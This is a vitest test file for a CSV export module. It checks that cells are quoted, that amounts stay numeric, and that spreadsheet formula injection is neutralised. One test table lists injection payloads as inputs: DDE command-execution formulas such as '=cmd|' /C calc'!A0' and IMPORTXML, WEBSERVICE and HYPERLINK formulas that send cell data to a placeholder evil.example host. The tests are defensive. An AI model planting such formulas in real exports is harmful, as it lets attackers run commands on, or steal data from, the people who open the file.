// @vitest-environment node
import { Big } from 'big.js'
import * as fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import { csvCell, csvText, type CsvCell } from '@/domain/csv'

/** Reads a file by RFC 4180, one character at a time. */
function parsed(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let isQuoted = false
  for (let index = 0; index < text.length; index += 1) {
    const character = text.charAt(index)
    if (isQuoted) {
      if (character !== '"') cell += character
      else if (text.charAt(index + 1) === '"') {
        cell += '"'
        index += 1
      } else isQuoted = false
    } else if (character === '"' && cell === '') isQuoted = true
    else if (character === ',') {
      row.push(cell)
      cell = ''
    } else if (character === '\r' && text.charAt(index + 1) === '\n') {
      rows.push([...row, cell])
      row = []
      cell = ''
      index += 1
    } else cell += character
  }
  return rows
}

describe('cells that a spreadsheet would run', () => {
  test.each([
    ['=1+1', `'=1+1`],
    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
    ['=HYPERLINK("http://evil.example","Click")', `"'=HYPERLINK(""http://evil.example"",""Click"")"`],
    [
      '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
      `"'=IMPORTXML(CONCAT(""http://evil.example/?v="",A1),""//a"")"`,
    ],
    ['=WEBSERVICE("http://evil.example/"&A1)', `"'=WEBSERVICE(""http://evil.example/""&A1)"`],
    ['=2+5+cmd|"/C calc"!A0', `"'=2+5+cmd|""/C calc""!A0"`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['+92 300 1234567', `'+92 300 1234567`],
    ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
    ['-5.00', `'-5.00`],
    ['@SUM(1+1)*cmd|" /C calc"!A0', `"'@SUM(1+1)*cmd|"" /C calc""!A0"`],
    ['@home', `'@home`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\tplain', `"'\tplain"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\rplain', `"'\rplain"`],
    ['\n=1+1', `"'\n=1+1"`],
    ['\r\n@x', `"'\r\n@x"`],
    [' =1+1', `' =1+1`],
    ['\u00a0=1+1', `'\u00a0=1+1`],
    ['\ufeff=1+1', `'\ufeff=1+1`],
    ['\u200b=1+1', `'\u200b=1+1`],
    ['\u0000=1+1', `'\u0000=1+1`],
    ['＝1+1', `'＝1+1`],
    ['＋1', `'＋1`],
    ['－1', `'－1`],
    ['＠SUM(1)', `'＠SUM(1)`],
    ['=', `'=`],
    ['="A","B"', `"'=""A"",""B"""`],
    ['=1\r\n=2', `"'=1\r\n=2"`],
  ])('%j is defused', (text, written) => {
    const cell = csvCell(text)
    expect(cell).toBe(written)
    expect(parsed(`${cell}\r\n`)).toEqual([[`'${text}`]])
  })
})

describe('cells that are harmless', () => {
  test.each<[CsvCell, string]>([
    ['Chenab', 'Chenab'],
    ['a=b', 'a=b'],
    ['3-5 days', '3-5 days'],
    ['someone@chenab.example', 'someone@chenab.example'],
    ["'quoted'", "'quoted'"],
    ['', ''],
    [null, ''],
    [undefined, ''],
    ['لاہور', 'لاہور'],
    ['Lahore, Punjab', '"Lahore, Punjab"'],
    ['5" pipe', '"5"" pipe"'],
    ['one\ntwo', '"one\ntwo"'],
    ['one\r\ntwo', '"one\r\ntwo"'],
    ['a;b', '"a;b"'],
    ['a\tb', '"a\tb"'],
    [' padded ', '" padded "'],
    [true, 'true'],
  ])('%j is written %j', (cell, written) => {
    expect(csvCell(cell)).toBe(written)
  })
})

describe('amounts stay numbers', () => {
  test.each<[CsvCell, string]>([
    [0, '0'],
    [14500.5, '14500.5'],
    [-250.5, '-250.5'],
    [new Big('-0.01'), '-0.01'],
    [new Big('14001.63'), '14001.63'],
    [Number.NaN, ''],
    [Number.POSITIVE_INFINITY, ''],
  ])('%s is written %s', (cell, written) => {
    expect(csvCell(cell)).toBe(written)
  })
})

describe('a whole file', () => {
  it('starts with the byte order mark and ends every line with CR LF', () => {
    expect(
      csvText([
        ['AB #', 'Amount'],
        ['1234567890', 5],
      ]),
    ).toBe('\ufeffAB #,Amount\r\n1234567890,5\r\n')
    expect(csvText([])).toBe('\ufeff')
  })

  it('gives back what was written, and nothing in it can run', () => {
    const text = fc.oneof(
      fc.string({ unit: fc.nat(0x2fff).map((code) => String.fromCharCode(code)), maxLength: 8 }),
      fc.stringMatching(/^[=+\-@\t\r\n ",;'a1]{0,10}$/),
    )
    const rows = fc.array(fc.array(text, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 })
    fc.assert(
      fc.property(rows, (table) => {
        const read = parsed(csvText(table).slice(1))
        expect(read.map((row) => row.length)).toEqual(table.map((row) => row.length))
        for (const [index, row] of read.entries()) {
          for (const [column, cell] of row.entries()) {
            const written = table[index]?.[column] ?? ''
            expect([written, `'${written}`]).toContain(cell)
            expect(cell.trimStart()).not.toMatch(/^[=+\-@]/)
            expect(cell).not.toMatch(/^[\t\r]/)
          }
        }
      }),
      { numRuns: 200 },
    )
  })
})
